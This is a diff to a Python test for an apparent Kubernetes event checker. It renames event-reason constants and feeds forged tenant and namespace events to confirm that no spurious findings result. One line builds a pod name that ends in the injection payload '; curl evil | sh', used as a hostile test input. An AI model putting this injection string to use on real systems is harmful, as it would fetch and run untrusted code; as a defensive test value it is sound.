@@ -162,21 +162,21 @@ def test_events_of_tenants_name_no_node_for_deletion_and_wire_no_scheduler():
     node = {"kind": "Node", "name": "n1"}
     api.add(
         "events",
-        forged("e1", names.CARD_OF_ANOTHER_NODE, message, kind="Pod", namespace=TENANT, name="n2"),
-        forged("e2", names.CARD_OF_ANOTHER_NODE, message, kind="Pod", namespace=TENANT),
-        forged("e3", names.CARD_OF_ANOTHER_NODE, message, **node),
-        forged("e4", names.CARD_OF_ANOTHER_NODE, message) | {"metadata": {"namespace": "default", "name": "e4"}},
+        forged("e1", names.GPU_ON_ANOTHER_NODE, message, kind="Pod", namespace=TENANT, name="n2"),
+        forged("e2", names.GPU_ON_ANOTHER_NODE, message, kind="Pod", namespace=TENANT),
+        forged("e3", names.GPU_ON_ANOTHER_NODE, message, **node),
+        forged("e4", names.GPU_ON_ANOTHER_NODE, message) | {"metadata": {"namespace": "default", "name": "e4"}},
     )
     assert findings(api) == sound
     name = "Z" * 3000 + "; curl evil | sh"
     api.add(
         "events",
-        forged("e5", names.BOUND_PAST_CARDWISE, kind="Pod", namespace=TENANT, name=name),
-        forged("e6", names.BOUND_PAST_CARDWISE, kind="Pod", namespace="fair", name="of-another-namespace"),
-        forged("e7", names.BOUND_PAST_CARDWISE),
+        forged("e5", names.BOUND_WITHOUT_EXTENDER, kind="Pod", namespace=TENANT, name=name),
+        forged("e6", names.BOUND_WITHOUT_EXTENDER, kind="Pod", namespace="fair", name="of-another-namespace"),
+        forged("e7", names.BOUND_WITHOUT_EXTENDER),
     )
     assert findings(api) == sound
-    api.add("events", forged("e8", names.BOUND_PAST_CARDWISE, kind="Pod", namespace=TENANT, name="mine"))
+    api.add("events", forged("e8", names.BOUND_WITHOUT_EXTENDER, kind="Pod", namespace=TENANT, name="mine"))
     (more,) = added(sound, findings(api))
     assert more.level is Severity.NOTE
     assert "(a-team/mine) disappeared" in more.text
